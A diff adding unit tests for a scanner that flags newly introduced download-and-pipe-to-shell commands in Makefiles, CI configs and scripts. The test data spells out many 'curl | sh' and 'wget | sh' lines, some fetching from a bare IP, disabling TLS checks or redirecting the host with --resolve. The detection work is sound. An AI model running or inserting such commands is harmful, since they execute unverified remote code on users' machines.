@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { runsAsShell, scriptDownloadFindings } from '../../../src/ecosystems/shell/script-downloads.js';
+import { removedPipes, runsAsShell, scriptDownloadFindings } from '../../../src/ecosystems/shell/script-downloads.js';
 import { makeFile } from '../../support/snapshot-factory.js';
 
 const patchOf = (removed: string[], added: string[]) => [`@@ -1,${removed.length + 1} +1,${added.length + 1} @@`, ' all: build', ...removed.map((l) => `-${l}`), ...added.map((l) => `+${l}`)].join('\n');
@@ -45,4 +45,50 @@ describe('curl-pipe-shell in scripts and task files', () => {
     expect(found('Makefile', ['\tcurl -fsSL https://get.tool.dev/install.sh | sh'], ['\tcurl -fsSL https://get.tool.dev/setup.sh | sh'])).toEqual(['medium Makefile:2']);
     expect(found('Makefile', ['\tcurl -sSL http://10.0.0.1/i.sh | sh'], ['\tcurl -sSL http://45.61.136.13/i.sh | sh'])).toEqual(['high Makefile:2']);
   });
+
+  it("is quiet on the same repository's script at another ref (golangci-lint #5377: master to HEAD), and reports another repository or file", () => {
+    const raw = (ref: string, owner = 'golangci', file = 'install.sh') => `\tcurl -sSfL https://raw.githubusercontent.com/${owner}/golangci-lint/${ref}/${file} | sh`;
+    expect(found('scripts/bench/bench_local.sh', [raw('master')], [raw('HEAD')])).toEqual([]);
+    expect(found('Makefile', [raw('refs/heads/main')], [raw('v2.1.0')])).toEqual([]);
+    expect(found('Makefile', ['\tcurl -fsSL https://github.com/acme/tool/raw/main/install.sh | bash'], ['\tcurl -fsSL https://github.com/acme/tool/raw/v3.0.0/install.sh | bash'])).toEqual([]);
+    expect(found('Makefile', [raw('master')], [raw('HEAD', 'golangci-fork')])).toEqual(['medium Makefile:2']);
+    expect(found('Makefile', [raw('master')], [raw('HEAD', 'golangci', 'setup.sh')])).toEqual(['medium Makefile:2']);
+    // Another host is another source, even the project's own domain.
+    expect(found('Makefile', [raw('HEAD')], ['\tcurl -sSfL https://golangci-lint.run/install.sh | sh'])).toEqual(['medium Makefile:2']);
+  });
+
+  it("is quiet on a vendored dependency's own CI pipeline and Makefile (golangci-lint's vendor/ of 2018), not on its scripts or on the project's own files", () => {
+    const vendored = (path: string) => scriptDownloadFindings(makeFile(path, { patch: patchOf([], ['    - curl -sL https://git.io/goreleaser | bash']) }), true).map((f) => f.path);
+    expect(vendored('vendor/github.com/goreleaser/nfpm/.travis.yml')).toEqual([]);
+    expect(vendored('vendor/github.com/goreleaser/goreleaser/Makefile')).toEqual([]);
+    expect(vendored('third_party/tool/scripts/install.sh')).toEqual(['third_party/tool/scripts/install.sh']);
+    expect(found('.travis.yml', [], ['    - curl -sL https://git.io/goreleaser | bash'])).toEqual(['high .travis.yml:2']);
+  });
+
+  it("is quiet on the same installer with other options (kubebuilder #5468: curl to curl -fsSL, get-helm-3 to get-helm-4), and reports TLS checks turned off or a new value", () => {
+    const helm = (options: string, major: number) => `\t@curl ${options}https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-${major} | bash`;
+    expect(found('Makefile', [helm('', 3)], [helm('-fsSL ', 4)])).toEqual([]);
+    expect(found('Makefile', ['\twget -q -O- https://get.tool.dev/i.sh | sh -s -- -b bin'], ['\twget -qO- https://get.tool.dev/i.sh | sh -s -- -b bin'])).toEqual([]);
+    expect(found('Makefile', [helm('-fsSL ', 3)], [helm('-fsSLk ', 3)])).toEqual(['medium Makefile:2']);
+    expect(found('Makefile', [helm('', 3)], [helm('--insecure ', 3)])).toEqual(['medium Makefile:2']);
+    expect(found('Makefile', ['\twget -qO- https://get.tool.dev/i.sh | sh'], ['\twget --no-check-certificate -qO- https://get.tool.dev/i.sh | sh'])).toEqual(['medium Makefile:2']);
+    expect(found('Makefile', [helm('-fsSL ', 3)], [helm('-fsSL --resolve raw.githubusercontent.com:443:45.61.136.13 ', 3)])).toEqual(['medium Makefile:2']);
+  });
+
+  it('is quiet on a command moved from another file of the PR (operator-sdk #2338), unless it moves from a script into a CI pipeline', () => {
+    const lint = '    curl -sfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh| sh -s -- -b $(go env GOPATH)/bin v1.21.0';
+    const pr = (from: string, to: string) => {
+      const files = [makeFile(from, { patch: patchOf([lint], []) }), makeFile(to, { patch: patchOf([], [lint]) })];
+      const moved = removedPipes(files);
+      return files.flatMap((f) => scriptDownloadFindings(f, false, moved)).map((f) => `${f.severity} ${f.path}`);
+    };
+    expect(pr('hack/common.sh', 'hack/tests/check-lint.sh')).toEqual([]);
+    expect(pr('hack/check-lint.sh', 'Makefile')).toEqual([]);
+    expect(pr('.travis.yml', '.gitlab-ci.yml')).toEqual([]);
+    expect(pr('hack/common.sh', '.gitlab-ci.yml')).toEqual(['high .gitlab-ci.yml']);
+    // Removed elsewhere in another form is not this command.
+    const other = [makeFile('hack/common.sh', { patch: patchOf(['    curl -sfL https://get.tool.dev/i.sh | sh'], []) }), makeFile('Makefile', { patch: patchOf([], [lint]) })];
+    expect(other.flatMap((f) => scriptDownloadFindings(f, false, removedPipes(other))).map((f) => f.path)).toEqual(['Makefile']);
+  });
 });
+
